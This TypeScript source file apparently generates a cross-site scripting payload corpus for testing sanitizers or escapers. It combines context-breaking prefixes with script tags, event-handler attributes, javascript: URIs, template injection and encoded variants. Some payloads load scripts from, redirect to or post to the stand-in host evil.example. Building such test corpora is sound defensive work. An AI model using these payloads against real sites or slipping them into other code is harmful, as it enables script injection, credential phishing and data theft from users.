import { ANSWER_VECTORS } from '../../attacks/answer-vectors.ts';

/**
 * The contexts that an attacker may first have to escape: an attribute, an element's text, a script, a
 * comment, a template.
 */
const WAYS_OUT = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '` ',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '</noscript>',
  '</template>',
  '-->',
  ']]>',
  '\\"',
  "\\'",
  '\u2028',
  '*/',
  '}}',
  '&quot;>',
] as const;

/** What then runs, loads or sends something. */
const DEEDS = [
  '<script>alert(1)</script>',
  '<script src=//evil.example/x.js></script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script href=data:,alert(1) />',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe srcdoc="<script>parent.alert(1)</script>">',
  '<body onpageshow=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<style>*{background:url(//evil.example)}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<form action=//evil.example><button>Sign in</button></form>',
  '<object data=javascript:alert(1)>',
  '<a href=javascript:alert(1)>x</a>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  ' onmouseover=alert(1) x=',
  ' autofocus onfocus=alert(1) x=',
  ' style=animation:x onanimationend=alert(1) ',
  ' href=javascript:alert(1) ',
  ' formaction=javascript:alert(1) ',
  'javascript:alert(1)',
  'jAvAsCrIpT\t:alert(1)',
  '\u0001javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  '//evil.example',
  ';alert(1);//',
  '-alert(1)-',
  '{{constructor.constructor("alert(1)")()}}',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\uff1cscript\uff1ealert(1)\uff1c/script\uff1e',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '<scr\0ipt>alert(1)</scr\0ipt>',
  '<!--<script>',
  '<plaintext>',
  '<xmp><img src=x onerror=alert(1)>',
] as const;

/** Every escape with every action, and the known attacks on sanitizers. */
export const SCRIPT_PAYLOADS: readonly string[] = [
  ...WAYS_OUT.flatMap((out) => DEEDS.map((deed) => out + deed)),
  ...ANSWER_VECTORS.map(([, vector]) => vector),
];

/**
 * The same payloads, with as many in one text as fit into an address.
 *
 * @param count how many are joined
 */
export function payloadsTogether(count: number): string[] {
  // No address can contain NUL or a lone surrogate.
  const texts = SCRIPT_PAYLOADS.map((text) => text.replaceAll('\0', '').toWellFormed());
  const starts = Array.from({ length: Math.ceil(texts.length / count) }, (_, at) => at * count);
  return starts.map((start) => texts.slice(start, start + count).join(' '));
}
